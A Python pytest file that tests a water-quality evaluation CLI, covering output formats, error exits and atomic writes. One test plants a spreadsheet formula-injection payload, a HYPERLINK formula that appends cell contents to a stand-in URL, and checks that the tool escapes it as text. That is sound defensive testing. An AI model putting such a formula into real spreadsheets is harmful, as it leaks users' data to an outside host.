"""``kaohe water evaluate``: outputs, exit status 2 on bad input, and never a partial output."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import NoReturn

import polars as pl
import pytest
from openpyxl import load_workbook

import kaohe
from kaohe.cli import main, water_cmd
from kaohe.core.exceptions import UserInputError
from kaohe.monitoring.water import as_inputs

HEADER = "section_id,section_name,unit_id,waterbody,target_class,section_level,year,month,nh3n,tp"


@pytest.fixture
def measurements(tmp_path: Path) -> Path:
    lines = [HEADER]
    for year, nh3n in ((2019, 1.6), (2020, 0.8)):  # V in 2019, III in 2020
        lines += [f"S1,甲,U1,river,III,provincial,{year},{m},{nh3n},0.1" for m in range(1, 13)]
    lines += [f"S2,乙,U1,river,IV,boundary,2020,{m},{2.5 if m == 7 else 1.2},0.25" for m in range(1, 13)]
    path = tmp_path / "in.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def listing(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir())


def test_it_writes_sections_and_units_as_csv(tmp_path: Path, measurements: Path) -> None:
    out = tmp_path / "out.csv"
    assert main(["water", "evaluate", str(measurements), "--year", "2020", "--out", str(out)]) == 0
    assert listing(tmp_path) == ["in.csv", "out.csv", "out_units.csv"]
    sections = pl.read_csv(out)
    assert sections["annual_class"].to_list() == ["III", "IV"]
    assert sections["prev_annual_class"].to_list() == ["V", None]
    units = pl.read_csv(tmp_path / "out_units.csv", infer_schema=False)
    row = units.row(0, named=True)
    assert row["wq_sections"] == "甲;乙"
    assert row["wq_months_inferior_v"] == "0;1"
    assert row["wq_annual_met"] == "true;true"
    assert row["wq_improved_sections"] == "1"


def test_it_writes_two_sheets_to_xlsx(tmp_path: Path, measurements: Path) -> None:
    out = tmp_path / "out.xlsx"
    assert main(["water", "evaluate", str(measurements), "--year", "2020", "--out", str(out)]) == 0
    book = load_workbook(out, read_only=True)
    assert book.sheetnames == ["sections", "units"]
    header = [c.value for c in next(book["units"].iter_rows(max_row=1))]
    assert header[:3] == ["unit_id", "wq_sections", "wq_months_missed"]


def test_it_keeps_list_columns_in_parquet(tmp_path: Path, measurements: Path) -> None:
    out = tmp_path / "out.parquet"
    assert main(["water", "evaluate", str(measurements), "--year", "2020", "--out", str(out)]) == 0
    units = pl.read_parquet(tmp_path / "out_units.parquet")
    assert units["wq_months_missed"].to_list() == [[0, 0]]


def test_it_exits_2_and_writes_nothing_on_bad_input(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "in.csv"
    bad.write_text(HEADER + "\nS1,甲,U1,river,III,provincial,2020,13,0.8,abc\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    assert main(["water", "evaluate", str(bad), "--year", "2020", "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert f"error: {bad}, row 2, column month: '13' is not a month; expected 1-12" in err
    assert f"error: {bad}, row 2, column tp: 'abc' is not a number" in err
    assert listing(tmp_path) == ["in.csv"]


@pytest.mark.parametrize(
    ("out", "message"), [("out.json", "unsupported format"), ("missing/out.csv", "does not exist")]
)
def test_it_exits_2_on_a_bad_output_path(
    tmp_path: Path, measurements: Path, capsys: pytest.CaptureFixture[str], out: str, message: str
) -> None:
    assert main(["water", "evaluate", str(measurements), "--year", "2020", "--out", str(tmp_path / out)]) == 2
    assert message in capsys.readouterr().err
    assert listing(tmp_path) == ["in.csv"]


def test_it_exits_2_for_a_year_without_data(
    tmp_path: Path, measurements: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["water", "evaluate", str(measurements), "--year", "2031", "--out", str(tmp_path / "o.csv")]) == 2
    assert "no rows for year 2031" in capsys.readouterr().err
    assert listing(tmp_path) == ["in.csv"]


def test_it_leaves_nothing_when_a_later_table_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = water_cmd._writer

    def failing(suffix: str, table: pl.DataFrame) -> Callable[[Path], None]:
        if "boom" in table.columns:

            def fail(tmp: Path) -> NoReturn:
                raise OSError("disk full")

            return fail
        return real(suffix, table)

    monkeypatch.setattr(water_cmd, "_writer", failing)
    tables = {"a": pl.DataFrame({"x": [1]}), "b": pl.DataFrame({"boom": [1]})}
    with pytest.raises(OSError, match="disk full"):
        water_cmd.write_tables(tmp_path / "out.csv", tables)
    assert listing(tmp_path) == []


def scheme(*inputs: dict[str, object]) -> SimpleNamespace:
    return SimpleNamespace(inputs=[SimpleNamespace(**i) for i in inputs])


XX_WATER = scheme(
    {"id": "months_missed", "source": "water.wq_months_missed"},
    {"id": "annual_met", "source": "water.wq_annual_met"},
    {"id": "drinking_pct", "source": "water.drinking_rate", "source_scale": 100},
    {"id": "pm25", "source": "air.pm25_mean"},  # not ours: skipped
    {"id": "typed_by_hand"},  # no source: skipped
)


def test_as_inputs_picks_renames_and_scales() -> None:
    units = pl.DataFrame(
        {
            "unit_id": ["U1"],
            "wq_months_missed": [[2, 0]],
            "wq_annual_met": [[False, True]],
            "drinking_rate": [0.96],
        }
    )
    out = as_inputs(units, XX_WATER)
    assert out.columns == ["unit_id", "months_missed", "annual_met", "drinking_pct"]
    assert out.row(0) == ("U1", [2, 0], [False, True], pytest.approx(96.0))


def test_as_inputs_scales_list_elements() -> None:
    units = pl.DataFrame({"unit_id": ["U1"], "wq_months_missed": [[2, 0]]})
    out = as_inputs(units, scheme({"id": "x", "source": "water.wq_months_missed", "source_scale": 5}))
    assert out["x"].to_list() == [[10, 0]]


@pytest.mark.parametrize(
    ("inputs", "message"),
    [
        ([{"id": "x", "source": "water.no_such_column"}], "does not produce"),
        ([{"id": "x", "source": "water.wq_sections", "source_scale": 100}], "non-numeric"),
        ([{"id": "x", "source": "air.good_ratio"}], "no input with source 'water."),
    ],
)
def test_as_inputs_rejects_what_it_cannot_provide(inputs: list[dict[str, object]], message: str) -> None:
    units = pl.DataFrame({"unit_id": ["U1"], "wq_sections": [["甲"]]})
    with pytest.raises(UserInputError, match=message):
        as_inputs(units, scheme(*inputs))


def test_it_writes_scheme_inputs_with_as_inputs(
    tmp_path: Path, measurements: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(kaohe, "load_scheme", lambda scheme_id: XX_WATER, raising=False)
    out = tmp_path / "inputs.csv"
    code = main(["water", "evaluate", str(measurements), "--year", "2020", "--out", str(out), "--as-inputs", "x"])
    assert code == 0
    assert listing(tmp_path) == ["in.csv", "inputs.csv", "inputs_sections.csv"]
    inputs = pl.read_csv(out, infer_schema=False)
    assert inputs.columns == ["unit_id", "months_missed", "annual_met", "drinking_pct"]
    assert inputs.row(0) == ("U1", "0;0", "true;true", None)


def test_it_exits_2_when_the_scheme_wants_a_column_we_do_not_make(
    tmp_path: Path, measurements: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    wrong = scheme({"id": "x", "source": "water.nope"})
    monkeypatch.setattr(kaohe, "load_scheme", lambda scheme_id: wrong, raising=False)
    out = tmp_path / "inputs.xlsx"
    assert main(["water", "evaluate", str(measurements), "--year", "2020", "--out", str(out), "--as-inputs", "x"]) == 2
    assert "'water.nope'" in capsys.readouterr().err
    assert listing(tmp_path) == ["in.csv"]


def test_formula_like_section_names_stay_text_in_xlsx(tmp_path: Path) -> None:
    # issue 8 §2.3: a section named "=HYPERLINK(…)" is written as text with a leading ' (kaohe.core.xlsx_text),
    # on the sections sheet and inside the units sheet's list columns.
    hostile = '=HYPERLINK("http://x?x="&A1,"click")'
    quoted = '"' + hostile.replace('"', '""') + '"'
    lines = [HEADER] + [f"S1,{quoted},U1,river,III,provincial,2020,{m},0.8,0.1" for m in range(1, 13)]
    source = tmp_path / "in.csv"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out.xlsx"
    assert main(["water", "evaluate", str(source), "--year", "2020", "--out", str(out)]) == 0
    book = load_workbook(out)
    cells = [
        c
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert len(cells) == 3  # section_name; the unit's wq_sections and rebound_sections
    assert all((c.value, c.data_type) == ("'" + hostile, "s") for c in cells)
